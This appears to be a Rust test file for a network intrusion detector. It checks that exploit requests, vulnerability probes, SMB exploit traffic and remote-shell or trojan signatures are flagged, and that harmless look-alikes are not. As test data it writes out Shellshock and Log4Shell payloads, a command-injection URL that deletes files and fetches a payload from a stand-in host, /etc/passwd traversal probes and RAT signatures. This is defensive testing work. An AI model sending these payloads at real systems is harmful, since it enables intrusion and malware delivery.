//! Words by which machines are broken into and steered: said once or too often they are told, where they belong they are not.

use terms::Family;

use crate::draw::{Crossing, Draw, SECOND, always_found, never_found};
use crate::frames::End;

/// Says something to a server; returns when it was said.
fn says(draw: &mut Draw, (who, server): (End, End), port: u16, words: &[u8]) -> u64 {
    let at = draw.start + draw.chance.within(0..SECOND);
    draw.talk(at, who, server, port, &[(true, words.to_vec()), (false, b"ok\r\n".to_vec())])
}

/// A request of SMB1 with this command and this subcommand of Trans2.
fn smb(command: u8, sub: u8) -> Vec<u8> {
    let mut message = vec![0; 80];
    (message[3], message[8], message[65]) = (76, command, sub);
    message[4..8].copy_from_slice(b"\xffSMB");
    message
}

/// Sends so many later parts of transactions within a minute.
fn fragments(draw: &mut Draw, parts: usize) -> (End, u64) {
    let (who, server) = (draw.host(), draw.host());
    let moments = draw.moments(parts, SECOND, 50 * SECOND);
    let mut last = 0;
    for at in &moments {
        last = draw.talk(*at, who, server, 445, &[(true, smb(0x72, 0)), (true, smb(0x33, 0)), (false, smb(0x32, 0))]);
    }
    (who, last)
}

#[test]
fn one_request_with_an_exploit_is_told() {
    always_found("web exploit", |draw| {
        let ends = (draw.host(), draw.host());
        let words: &[u8] = draw.chance.pick(&[
            &b"GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :;}; /bin/ping\r\n\r\n"[..],
            b"GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n\r\n",
            b"GET /setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/m HTTP/1.0\r\n\r\n",
            b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
            b"GET /vendor/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n",
        ]);
        let port = draw.chance.pick(&[80, 8080, 5_000]);
        let at = says(draw, ends, port, words);
        Crossing { host: ends.0.key(), families: vec![Family::ExploitHttp], at }
    });
}

#[test]
fn requests_that_write_about_exploits_are_none() {
    never_found("web exploit, in a body", Family::ExploitHttp, |draw| {
        let ends = (draw.host(), draw.host());
        let words: &[u8] = draw.chance.pick(&[
            &b"POST /articles HTTP/1.1\r\nHost: a\r\n\r\nShellshock is () { :;}; and Log4Shell is ${jndi:ldap"[..],
            b"GET /wiki/Shellshock?how=wget HTTP/1.1\r\nHost: a\r\n\r\n",
            b"PUT /app.js HTTP/1.1\r\nHost: a\r\n\r\nconst f = function() { :label for(;;) {} }",
        ]);
        says(draw, ends, 80, words);
    });
}

/// Tries so many times for a weakness within a minute.
fn probes(draw: &mut Draw, times: usize) -> (End, u64) {
    let (who, server) = (draw.host(), draw.host());
    let mut last = 0;
    for at in draw.moments(times, SECOND, 50 * SECOND) {
        let word = draw.chance.pick(&[
            "a?f=../../etc/hosts",
            "a?q=%3CscRipt%3E",
            "a?id=1+UnIoN+SeLeCt+2",
            "%2e%2e/etc/passwd",
        ]);
        let request = format!("GET /{word} HTTP/1.1\r\nHost: shop\r\nUser-Agent: tool/1\r\n\r\n");
        last = draw.talk(
            at,
            who,
            server,
            80,
            &[(true, request.into_bytes()), (false, b"HTTP/1.1 200 OK\r\n\r\n".to_vec())],
        );
    }
    (who, last)
}

#[test]
fn three_strange_requests_a_minute_are_somebodys_search() {
    never_found("web probes, 3", Family::VulnerabilityScan, |draw| {
        probes(draw, 3);
    });
}

#[test]
fn four_strange_requests_a_minute_are_a_search_for_weaknesses() {
    always_found("web probes, 4", |draw| {
        let (who, at) = probes(draw, 4);
        Crossing { host: who.key(), families: vec![Family::VulnerabilityScan], at }
    });
}

#[test]
fn three_later_parts_a_minute_are_an_old_client() {
    never_found("smb, 3 parts", Family::ExploitSmb, |draw| {
        fragments(draw, 3);
    });
}

#[test]
fn four_later_parts_or_one_knock_are_an_exploit_of_smb() {
    always_found("smb, 4 parts", |draw| {
        let (who, at) = if draw.chance.percent(60) {
            fragments(draw, 4)
        } else {
            let ends = (draw.host(), draw.host());
            (ends.0, says(draw, ends, 445, &smb(0x32, 0x0e)))
        };
        Crossing { host: who.key(), families: vec![Family::ExploitSmb], at }
    });
}

const GREETING: &[u8] = b"Microsoft Windows [Version 6.1.7601]\r\nCopyright";

#[test]
fn shells_and_trojans_are_told_by_their_first_words() {
    always_found("remote shell", |draw| {
        let ends = (draw.host(), draw.host());
        let port = draw.chance.pick(&[1_957, 4_444, 5_552, 9_001]);
        let commands: &[u8] =
            draw.chance.pick(&[&b"echo open 0.0.0.0 8884 > o&ftp -s:o"[..], b"/bin/busybox ECCHI\r\n"]);
        let trojan: &[u8] = draw.chance.pick(&[&b"Gh0st\x2a\0\0\0\x01"[..], b"175\0ll|'|'|SGFjS2Vk"]);
        let (who, at) = match draw.chance.count(0..4) {
            0 => (ends.0, says(draw, ends, port, GREETING)),
            1 => (ends.0, says(draw, ends, port, commands)),
            2 => (ends.0, says(draw, ends, port, trojan)),
            _ => (ends.1, draw.talk(draw.start, ends.0, ends.1, port, &[(false, GREETING.to_vec())])),
        };
        Crossing { host: who.key(), families: vec![Family::C2Rat], at }
    });
}

#[test]
fn shells_where_they_are_served_are_none() {
    never_found("a shell that is served", Family::C2Rat, |draw| {
        let ends = (draw.host(), draw.host());
        draw.talk(
            draw.start,
            ends.0,
            ends.1,
            23,
            &[(false, GREETING.to_vec()), (true, b"/bin/busybox ls\r\n".to_vec())],
        );
        let later = draw.start + SECOND;
        let text: Vec<u8> = [b"the screen said: ", GREETING].concat();
        draw.talk(later, ends.0, ends.1, 9_001, &[(true, text), (false, b"echo opens".to_vec())]);
    });
}
